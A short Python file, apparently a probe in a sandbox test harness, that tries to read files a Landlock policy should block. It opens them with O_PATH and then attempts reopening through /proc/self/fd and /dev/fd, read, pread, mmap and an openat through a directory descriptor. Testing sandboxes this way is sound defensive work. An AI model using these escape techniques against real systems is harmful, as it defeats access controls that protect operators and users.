"""Open a file for its path only, which Landlock lets pass, and turn that into more."""
import mmap
import os


def attack(x):
    for path in (SCENE["reference"], SCENE["other"]):
        handle = os.open(path, os.O_PATH)
        for again in (f"/proc/self/fd/{handle}", f"/dev/fd/{handle}"):
            try:
                return open(again).read()
            except OSError:
                pass
        for use in (lambda: os.read(handle, 100), lambda: os.pread(handle, 100, 0), lambda: mmap.mmap(handle, 10, prot=1)):
            try:
                return bytes(use()[:100])
            except OSError:
                pass
        folder = os.open(os.path.dirname(path), os.O_PATH)
        try:
            return os.read(os.open(os.path.basename(path), os.O_RDONLY, dir_fd=folder), 100)
        except OSError:
            pass
